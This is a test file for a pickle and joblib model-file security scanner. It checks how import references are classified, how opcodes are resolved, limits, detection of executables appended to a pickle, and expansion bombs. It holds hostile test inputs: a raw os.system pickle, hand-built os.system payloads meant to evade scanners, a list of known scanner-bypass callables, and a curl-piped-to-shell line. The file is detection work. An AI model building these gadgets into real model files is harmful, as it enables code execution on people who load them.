"""The pickle analyser: allowlist exactness, resolution, limits, API."""

from __future__ import annotations

import io
import pickle
import pickletools
from collections import OrderedDict
from pathlib import Path

import pytest
from corpus import PROTO4, STOP, call1, os_system_proto, sg, u
from hypothesis import given, settings
from hypothesis import strategies as st

from aisec.artifacts import analyse_pickle
from aisec.artifacts._base import ArtifactContext, Limits
from aisec.artifacts.pickle._analyse import PICKLE_RULES, looks_like_pickle
from aisec.artifacts.pickle._policy import GlobalClass, classify_global
from aisec.core.frameworks import lookup


def _ctx(data: bytes, limits: Limits | None = None) -> ArtifactContext:
    return ArtifactContext(io.BytesIO(data), "t.pkl", len(data), limits or Limits())


def _rules(data: bytes, limits: Limits | None = None) -> set[str]:
    return {f.rule_id for f in analyse_pickle(data, _ctx(data, limits))}


def test_rule_frameworks_resolve() -> None:
    for _title, _sev, refs, _fix in PICKLE_RULES.values():
        for ref in refs:
            assert lookup(ref).id == ref.id


@pytest.mark.parametrize(
    ("module", "name", "expected"),
    [
        ("torch._utils", "_rebuild_tensor_v2", GlobalClass.SAFE),
        ("collections", "OrderedDict", GlobalClass.SAFE),
        ("sklearn.linear_model._logistic", "LogisticRegression", GlobalClass.SAFE),
        # exact names only: a sibling in an allowlisted module is not trusted
        ("sklearn.linear_model._logistic", "Evil", GlobalClass.UNKNOWN),
        ("torch._utils", "_rebuild_evil", GlobalClass.UNKNOWN),
        ("torch.nn.modules.linear", "Linear.__init__.__globals__", GlobalClass.DANGEROUS),
        ("os", "system", GlobalClass.DANGEROUS),
        ("posix", "system", GlobalClass.DANGEROUS),
        ("__builtin__", "eval", GlobalClass.DANGEROUS),
        ("builtins", "set", GlobalClass.SAFE),
        ("_operator", "attrgetter", GlobalClass.DANGEROUS),
        ("torch", "os.system", GlobalClass.DANGEROUS),
        ("torch.os", "system", GlobalClass.DANGEROUS),
        ("numpy", "load", GlobalClass.DANGEROUS),
        ("mycompany.models", "CustomNet", GlobalClass.UNKNOWN),
    ],
)
def test_classification(module: str, name: str, expected: GlobalClass) -> None:
    assert classify_global(module, name) is expected


@pytest.mark.parametrize(
    ("module", "name", "where_seen"),
    [
        ("pip", "main", "CVE-2025-1716: picklescan missed pip.main"),
        ("numpy.testing._private.utils", "runstring", "picklescan advisory: exec via numpy"),
        ("torch._inductor.codecache", "compile_file", "picklescan advisory: torch compile"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", "picklescan advisory"),
        ("torch.fx.graph_module", "reduce_graph_module", "exec of generated source"),
        ("asyncio.unix_events", "_UnixSubprocessTransport", "modelscan denylist gap"),
        ("_io", "FileIO", "file write through io alias"),
        ("idlelib.pyshell", "ModifiedInterpreter", "code execution via idlelib"),
        ("cProfile", "run", "exec of a code string"),
        ("timeit", "timeit", "exec of a code string"),
        ("_posixsubprocess", "fork_exec", "subprocess alias"),
        ("bdb", "Bdb", "debugger run"),
        ("functools", "reduce", "call gadget"),
        ("uuid", "_get_command_stdout", "subprocess in uuid"),
        ("logging.config", "listen", "eval of received config"),
        ("pydoc", "pipepager", "shell pipe"),
        (
            "pathlib",
            "Path.write_text.__globals__",
            "dunder escape through an allowlisted-looking module",
        ),
    ],
)
def test_known_scanner_bypass_callables(module: str, name: str, where_seen: str) -> None:
    assert classify_global(module, name) is GlobalClass.DANGEROUS, where_seen


def test_torchscript_names_only_trusted_in_torchscript() -> None:
    assert classify_global("__torch__.model", "Net") is GlobalClass.UNKNOWN
    assert classify_global("__torch__.model", "Net", torchscript=True) is GlobalClass.SAFE


@pytest.mark.parametrize("protocol", range(6))
def test_benign_values_every_protocol(protocol: int) -> None:
    import numpy as np

    value = {"a": [1, 2.5, "x", b"y", None, True], "o": OrderedDict(k=(1, 2)), "s": {1, 2}}
    value["arr"] = np.arange(6).reshape(2, 3)  # type: ignore[assignment]
    assert _rules(pickle.dumps(value, protocol=protocol)) == set()


def test_real_file_stream_with_large_payload(tmp_path: Path) -> None:
    path = tmp_path / "big.pkl"
    path.write_bytes(pickle.dumps({"blob": b"\x00" * (3 << 20)}, protocol=4))
    with path.open("rb") as fh:
        ctx = ArtifactContext(fh, str(path), path.stat().st_size)
        assert analyse_pickle(fh, ctx) == []


def test_opcode_limit() -> None:
    data = pickle.dumps(list(range(2000)), protocol=2)
    assert "pickle-limit" in _rules(data, Limits(max_opcodes=100))


def test_memo_get_of_undefined_key_is_malformed() -> None:
    data = b"\x80\x02h\x07."
    assert _rules(data) == {"pickle-malformed"}


def test_stack_global_resolution_uses_memo_not_neighbouring_strings() -> None:
    # picklescan-style heuristics read the two preceding strings; the real operands are memo
    data = (
        PROTO4
        + u("os")
        + b"\x94"
        + b"0"
        + u("system")
        + b"\x94"
        + b"0"
        + u("collections")
        + u("OrderedDict")
        + b"0"
        + b"0"
        + b"h\x00h\x01\x93"
        + u("id")
        + b"\x85R"
        + STOP
    )
    pickletools.dis(data, out=io.StringIO())  # a valid stream for CPython's own reader
    assert "pickle-dangerous-call" in _rules(data)


def test_nested_payload_depth_is_bounded() -> None:
    data = os_system_proto(2)
    for _ in range(8):
        data = (
            PROTO4
            + call1(sg("pickle", "loads"), b"B" + len(data).to_bytes(4, "little") + data)
            + STOP
        )
    rules = _rules(data)
    assert "pickle-limit" in rules and "pickle-nested-payload" in rules


def test_clean_nested_payload_is_not_malicious() -> None:
    import torch

    # plain pickle.dumps of a tensor goes through torch.storage._load_from_bytes(<torch.save>)
    data = pickle.dumps({"t": torch.ones(2)}, protocol=2)
    assert {r for r in _rules(data) if PICKLE_RULES[r][1].rank >= 2} == set()


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.", True),
        (b"(lp0\nI1\na.", True),
        (b"cos\nsystem\n(S'id'\ntR.", True),
        (b"hello world, this is text\n", False),
        (b"# markdown title\n", False),
        (b"\x89PNG\r\n\x1a\n", False),
    ],
)
def test_sniffing(head: bytes, expected: bool) -> None:
    assert looks_like_pickle(head) is expected


def test_analyse_pickle_accepts_bytes_and_streams() -> None:
    data = os_system_proto(3)
    from_bytes = analyse_pickle(data, _ctx(data))
    from_stream = analyse_pickle(io.BytesIO(data), _ctx(data))
    assert [f.rule_id for f in from_bytes] == [f.rule_id for f in from_stream]


_plain_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.binary(max_size=20),
    lambda children: (
        st.lists(children, max_size=5)
        | st.dictionaries(st.text(max_size=8), children, max_size=5)
        | st.tuples(children, children)
        | st.frozensets(st.integers(), max_size=4)
    ),
    max_leaves=30,
)


@settings(max_examples=150, deadline=None)
@given(_plain_values, st.integers(min_value=0, max_value=5))
def test_any_plain_value_pickles_clean(value: object, protocol: int) -> None:
    # property: what pickle.dumps writes for plain data never raises a finding at any protocol
    data = pickle.dumps(value, protocol=protocol)
    assert analyse_pickle(data, _ctx(data)) == []


def _array_wrapper(raw: bytes) -> bytes:
    """A NumpyArrayWrapper for ``raw`` as uint8 data (joblib's layout before alignment
    bytes), the raw bytes following its BUILD."""
    from corpus import BUILD, EMPTY_DICT, EMPTY_TUPLE, MARK, NONE, REDUCE, TUPLE1, g0

    dtype_state = MARK + b"K\x03" + u("|") + NONE * 3 + b"J\xff\xff\xff\xff" * 2 + b"K\x00t"
    dtype = g0("numpy", "dtype") + u("u1") + b"\x89\x88\x87" + REDUCE + dtype_state + BUILD
    state = (
        EMPTY_DICT + MARK + u("subclass") + g0("numpy", "ndarray") + u("shape") + b"K"
        + bytes([len(raw)]) + TUPLE1 + u("order") + u("C") + u("dtype") + dtype
        + u("allow_mmap") + b"\x89u"
    )  # fmt: skip
    wrapper = g0("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + b"\x81" + state
    return wrapper + BUILD + raw


def _joblib_samples() -> list[bytes]:
    """joblib files, and hand-built ones whose dangerous import comes before the first
    array and whose call comes after it (joblib and pickle.load then see different calls)."""
    import os

    import joblib
    import numpy as np
    from corpus import (
        CMD,
        EMPTY_DICT,
        PROTO2,
        REDUCE,
        SETITEM,
        TUPLE1,
        _Reduce,
        g0,
        get,
        joblib_array_bytes_differential,
        put,
    )

    out = []
    for obj in (
        {"w": np.arange(12.0).reshape(3, 4), "b": np.ones(3, dtype=np.int8)},
        {"w": np.ones(8), "hook": _Reduce(os.system, CMD)},
        {"hook": _Reduce(os.system, CMD), "w": np.zeros(5), "o": np.array([1, "x"], dtype=object)},
        [np.zeros(0), np.ones(2), {"k": np.arange(3)}],
    ):
        buf = io.BytesIO()
        joblib.dump(obj, buf)
        out.append(buf.getvalue())
    out.append(joblib_array_bytes_differential())
    imported = PROTO2 + EMPTY_DICT + u("f") + g0("os", "system") + put(7) + SETITEM
    called = u("x") + get(7) + u(CMD) + TUPLE1 + REDUCE + SETITEM + STOP
    # the plain walk stops on the array's first byte having imported os.system only
    out.extend(
        imported + u("w") + _array_wrapper(raw) + SETITEM + called
        for raw in (b"\x0f\x01\x02", b"\x0f", b"\x00" * 4)
    )
    out.append(imported + u("w") + _array_wrapper(b"N0"))  # opcodes: the full plain walk
    return out


def test_joblib_plain_walk_known_at_the_first_array_matches_the_full_walk(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the plain (pickle.load) walk is judged at the first skipped array when it would stop
    # dead there; forcing the full second walk must give the same report, on joblib files
    # and on their bit flips
    import json
    import random

    import aisec.artifacts.pickle._file as pickle_file
    from aisec.artifacts import scan_bytes

    def report(data: bytes) -> str:
        return json.dumps(scan_bytes(data, "m.joblib").to_dict(), sort_keys=True)

    rng = random.Random(3)
    cases = []
    for data in _joblib_samples():
        cases.append(data)
        for _ in range(40):
            flipped = bytearray(data)
            flipped[rng.randrange(len(data))] = rng.randrange(256)
            cases.append(bytes(flipped))
    shortcut = [report(case) for case in cases]
    monkeypatch.setattr(pickle_file, "OPCODES", frozenset(range(256)))
    assert [report(case) for case in cases] == shortcut


_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
_PE = (
    b"MZ\x90\x00"
    + bytes(60)
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!This program cannot be run in DOS mode"
)


@pytest.mark.parametrize(
    ("tail", "kind"),
    [
        (_ELF, "ELF"),
        (b"padding" * 100 + _PE, "PE (Windows)"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "script (#!)"),
        (b"notes\n#!/usr/bin/env python3\n", "script (#!)"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "Mach-O"),
        (b"(" + _ELF, "ELF"),  # bytes that start like a protocol-0 pickle, then break
    ],
)
def test_executable_appended_after_the_pickle(tail: bytes, kind: str) -> None:
    data = pickle.dumps({"w": [1.0]}, protocol=2) + tail
    (finding,) = [
        f for f in analyse_pickle(data, _ctx(data)) if f.rule_id == "pickle-trailing-executable"
    ]
    assert finding.evidence.startswith(kind)


@pytest.mark.parametrize(
    "tail",
    [b"MZ" + bytes(600) + b"program cannot be run", b"text with MZ and #!/ inline", b"\x7fELF\x09"],
)
def test_trailing_bytes_that_are_not_an_executable(tail: bytes) -> None:
    data = pickle.dumps({"w": [1.0]}, protocol=2) + tail
    assert "pickle-trailing-executable" not in _rules(data)


def _laughs(levels: int, fanout: int, via: str) -> bytes:
    """fickling's expansion attack: each level a list of ``fanout`` references to the last."""
    body = b""
    for level in range(levels):
        if via == "dup":
            refs = b"2" * (fanout - 1)
        else:
            refs = b"q" + bytes([level]) + (b"h" + bytes([level])) * (fanout - 1)
        body += refs + b"l"
    return PROTO4 + b"(" * levels + u("lol") + body + STOP


@pytest.mark.parametrize("via", ["dup", "memo"])
def test_billion_laughs_expansion(via: str) -> None:
    findings = analyse_pickle(_laughs(10, 10, via), _ctx(_laughs(10, 10, via)))
    assert {f.rule_id for f in findings} == {"pickle-expansion"}


@pytest.mark.parametrize("via", ["dup", "memo"])
def test_small_nested_sharing_is_not_an_expansion(via: str) -> None:
    assert _rules(_laughs(4, 10, via)) == set()  # 11,111 values: ordinary


def test_linear_sharing_in_a_real_pickle_is_not_an_expansion() -> None:
    shared = {"cfg": [1, 2, 3], "name": "layer"}
    data = pickle.dumps([[shared, shared, {"k": shared}] for _ in range(20_000)], protocol=4)
    assert "pickle-expansion" not in _rules(data)


def test_expanded_size_counts_repeats_and_survives_cycles() -> None:
    from aisec.artifacts.pickle._vm import expanded_size

    leaf = [1, 2]
    mid = [leaf, leaf, leaf]  # 1 + 3 * 3
    top = [mid, mid]  # 1 + 2 * 10
    assert expanded_size([top], 10**9, 100) == 21
    assert expanded_size([top], 15, 100) == 15  # counted up to the cap
    assert expanded_size([top], 10**9, 1) == 0  # past the budget: unknown
    loop: list[object] = [1]
    loop.append(loop)
    assert expanded_size([loop], 10**9, 100) == 3  # the cycle back counts once
